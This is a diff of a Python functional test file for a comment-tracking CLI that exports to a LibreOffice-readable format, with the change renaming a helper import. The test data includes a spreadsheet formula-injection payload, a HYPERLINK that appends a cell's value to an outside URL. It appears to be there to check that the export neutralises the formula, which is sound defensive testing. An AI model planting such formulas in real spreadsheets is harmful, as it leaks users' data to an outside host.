@@ -13,7 +13,7 @@ import pytest
 
 from tests.functional.command import Desk, check_snapshot, transcript
 from tests.functional.test_cli_refusals import check_refused
-from tests.tools import required
+from tests.tools import program
 
 HOSTILE = '=HYPERLINK("http://example.org/?"&A1,"click")'
 
@@ -160,7 +160,7 @@ def test_what_does_not_fit_is_refused_and_stores_nothing(
 
 
 def test_libreoffice_opens_it_and_gives_the_same_comments_back(desk: Desk) -> None:
-    office = required("soffice", "libreoffice")
+    office = program("soffice", "libreoffice")
     assert desk.tracker("comment", "add", "2", "--from", "日本側", "--text", HOSTILE).status == 0
     path = out(desk, more="--profile iso")
     profile = (desk.folder / "office").as_uri()
